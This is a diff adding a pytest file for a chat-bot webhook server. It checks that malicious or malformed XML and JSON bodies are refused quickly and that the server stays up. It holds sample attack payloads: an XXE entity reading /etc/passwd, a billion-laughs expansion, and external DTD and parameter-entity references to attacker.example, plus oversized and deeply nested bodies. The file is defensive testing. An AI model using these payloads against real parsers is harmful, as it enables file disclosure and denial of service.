@@ -1,0 +1,107 @@
+"""Hostile and malformed bodies are refused fast, nothing is dispatched, the server stays up."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from aiohttp.test_utils import TestClient
+
+from bot.safexml import MAX_WEBHOOK_BYTES
+from tests.bot.conftest import Recorder
+from tests.bot.helpers import OA, WeComBot, now_ts, oa_text
+
+XXE = (
+    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+    "<xml><ToUserName>gh</ToUserName><FromUserName>o</FromUserName><CreateTime>1</CreateTime>"
+    "<MsgType>text</MsgType><Content>&xxe;</Content><MsgId>1</MsgId></xml>"
+)
+LAUGHS = (
+    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY a "lol">'
+    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
+    + "]><xml><MsgType>text</MsgType><Content>&j;</Content></xml>"
+)
+BARE_DTD = '<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml><MsgType>text</MsgType></xml>'
+PARAMETER_ENTITY = (
+    '<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/e.dtd"> %remote;]><xml/>'
+)
+
+
+@pytest.mark.parametrize(
+    "body",
+    [XXE, LAUGHS, BARE_DTD, PARAMETER_ENTITY, "<xml><MsgType>text", "not xml", "", "<html/>"],
+    ids=["xxe", "billion-laughs", "dtd", "parameter-entity", "truncated", "text", "empty", "root"],
+)
+async def test_hostile_or_malformed_xml_is_a_bad_request(
+    bot_client: TestClient, recorder: Recorder, body: str
+) -> None:
+    oa = OA(bot_client)
+    started = time.monotonic()
+    plain = await oa.post(body)  # correctly signed: the parser itself must refuse it
+    assert plain.status == 400
+    safe = await bot_client.post(
+        "/bot/wechat", params={**oa.query(), "encrypt_type": "aes", "msg_signature": "x"}, data=body
+    )
+    assert safe.status in (400, 403)
+    assert time.monotonic() - started < 1.0
+    assert recorder.calls == []
+    assert (await oa.post(oa_text("help"))).status == 200  # still serving
+
+
+async def test_hostile_xml_inside_a_signed_ciphertext(
+    bot_client: TestClient, recorder: Recorder
+) -> None:
+    oa = OA(bot_client)
+    query, body = oa.seal(XXE, now_ts(), "5")
+    resp = await bot_client.post("/bot/wechat", params=query, data=body)
+    assert resp.status == 400 and recorder.calls == []
+
+
+async def test_message_without_sender_or_type(bot_client: TestClient, recorder: Recorder) -> None:
+    oa = OA(bot_client)
+    for body in ("<xml><MsgType>text</MsgType></xml>", "<xml><FromUserName>o</FromUserName></xml>"):
+        assert (await oa.post(body)).status == 400
+    event = "<xml><FromUserName>o</FromUserName><MsgType>event</MsgType><Event/></xml>"
+    assert (await oa.post(event)).status == 400
+    assert recorder.calls == []
+
+
+async def test_oversized_bodies_get_413(bot_client: TestClient, recorder: Recorder) -> None:
+    oa = OA(bot_client)
+    big = oa_text("x" * (MAX_WEBHOOK_BYTES + 1))
+    assert (await oa.post(big)).status == 413
+
+    async def chunks():  # no Content-Length: counted while reading
+        for _ in range(5):
+            yield b"<xml>" + b"x" * (MAX_WEBHOOK_BYTES // 4)
+
+    resp = await bot_client.post("/bot/wechat", params=oa.query(), data=chunks())
+    assert resp.status == 413
+    bot = WeComBot(bot_client)
+    resp = await bot_client.post(
+        "/bot/wecom-bot",
+        params={"msg_signature": "x", "timestamp": now_ts(), "nonce": "1"},
+        data=b"{" * (MAX_WEBHOOK_BYTES + 10),
+    )
+    assert resp.status == 413
+    assert bot.token and recorder.calls == []
+    assert (await oa.post(oa_text("help"))).status == 200
+
+
+async def test_wecom_bot_refuses_bad_json_and_bad_signatures(
+    bot_client: TestClient, recorder: Recorder
+) -> None:
+    bot = WeComBot(bot_client)
+    ts, n = now_ts(), "9"
+    query, encrypt = bot.sealed_query('{"msgtype": "text"', ts, n)  # signed, but not JSON inside
+    resp = await bot_client.post("/bot/wecom-bot", params=query, data=f'{{"encrypt": "{encrypt}"}}')
+    assert resp.status == 400
+    for data in ("[1, 2]", "{", '{"Encrypt": "x"}', "[" * 5000 + "]" * 5000):
+        resp = await bot_client.post("/bot/wecom-bot", params=query, data=data)
+        assert resp.status == 400, data[:20]
+    forged = {**query, "msg_signature": "0" * 40}
+    resp = await bot_client.post(
+        "/bot/wecom-bot", params=forged, data=f'{{"encrypt": "{encrypt}"}}'
+    )
+    assert resp.status == 403
+    assert recorder.calls == []
